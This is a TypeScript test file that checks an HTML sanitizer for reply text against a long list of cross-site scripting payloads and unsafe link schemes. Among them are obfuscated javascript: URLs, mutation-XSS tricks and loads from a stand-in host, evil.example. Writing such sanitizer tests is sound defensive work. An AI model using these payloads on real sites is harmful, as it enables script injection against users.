import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { contentDir } from '#server/seed/content.ts'
import { AUTO_REPLY_DICT, cleanReply } from './reply.ts'

const HREFS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&#10;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'javascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  '\u200bjavascript:alert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'DATA:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  'ftp://example.com/x',
  'http://example.com/',
  'HTTP://example.com/',
  'mailto:a@example.com',
  'tel:10086',
  'blob:https://example.com/1',
  'filesystem:https://example.com/1',
  'view-source:https://example.com',
  'ws://example.com',
  'intent://scan/#Intent;end',
  '//evil.example',
  '\\\\evil.example',
  '/\\evil.example',
  '\\/evil.example',
  '/\t/evil.example',
  '/\n/evil.example',
  'https:evil.example',
  'https:/evil.example',
  'https:\\\\evil.example',
  'https://ceqiao.example@evil.example/',
  'relative/page',
  '../up',
  '?query',
  '#part',
  '',
]

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss>alert(1)</script>',
  '<script>alert(1)',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="https://evil.example/p.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<select><option onclick=alert(1)>x</option></select>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onclick="alert(1)">x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<strong onpointerenter=alert(1)>x</strong>',
  '<em style=position:fixed;inset:0>x</em>',
  '<p id="root" class="x" data-x="1">x</p>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a href="https://ok.example" style="position:fixed">x</a>',
  '<a href="https://ok.example" ping="https://evil.example">x</a>',
  '<a href="https://ok.example" download>x</a>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<isindex action=javascript:alert(1) type=submit>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p>\u0000<script>alert(1)</script></p>',
  '<a href="&quot; onclick=alert(1) x=&quot;">x</a>',
  '"><script>alert(1)</script>',
]

const TAG = /<(\/?)([a-z]+)((?:\s+[a-z]+="[^"<>]*")*)\s*(\/?)>/g
const KEPT = new Set(['p', 'br', 'ul', 'ol', 'li', 'strong', 'em', 'a'])

/** What stands in a cleaned text that may not; every `<` must belong to a known tag. */
const wrongIn = (html: string): string[] => {
  const rest = html.replaceAll(TAG, '')
  const wrong = /[<>]/.test(rest) ? [rest] : []
  for (const [, , tag = '', attributes = ''] of html.matchAll(TAG)) {
    if (!KEPT.has(tag)) wrong.push(tag)
    for (const [, name = '', value = ''] of attributes.matchAll(/([a-z]+)="([^"]*)"/g)) {
      const right =
        (name === 'href' && /^(https:\/\/[^@\s]+|\/(?![/\\])\S*)$/.test(value)) ||
        (name === 'rel' && value === 'noopener noreferrer nofollow') ||
        (name === 'target' && value === '_blank')
      if (tag !== 'a' || !right) wrong.push(`${tag} ${name}=${value}`)
    }
  }
  return wrong
}

test('there are eighty hostile texts and more', () => {
  expect(HREFS.length + PAYLOADS.length).toBeGreaterThanOrEqual(80)
})

test.each(PAYLOADS)('%j leaves nothing that acts', (payload) => {
  const cleaned = cleanReply(`<p>前</p>${payload}`)
  expect(wrongIn(cleaned)).toEqual([])
  // What was cleaned stays as it is.
  expect(cleanReply(cleaned)).toBe(cleaned)
})

test.each(HREFS)('no link leads to %j', (href) => {
  expect(cleanReply(`<a href="${href.replaceAll('"', '&quot;')}">看</a>`)).toBe('<a>看</a>')
})

test('what may stay stays', () => {
  const kept =
    '<p>请<strong>先</strong>看<em>这里</em>：<br /></p><ul><li>一</li></ul><ol><li>二</li></ol>'
  expect(cleanReply(kept)).toBe(kept)
  expect(cleanReply('<a href="/jobTitle" target="_top" rel="opener">看</a>')).toBe(
    '<a href="/jobTitle" rel="noopener noreferrer nofollow">看</a>',
  )
  expect(cleanReply('<a href="https://www.example.com/a?b=1&amp;c=2">看</a>')).toBe(
    '<a href="https://www.example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">看</a>',
  )
})

test('the replies of the content lose nothing', () => {
  const { dictType, entries } = JSON.parse(
    readFileSync(join(contentDir, 'dictionaries', 'auto-reply.json'), 'utf8'),
  ) as { dictType: string; entries: [string, string][] }
  expect(dictType).toBe(AUTO_REPLY_DICT)
  for (const [, html] of entries)
    expect(cleanReply(html).replaceAll(/ rel="[^"]*"/g, '')).toBe(html)
})
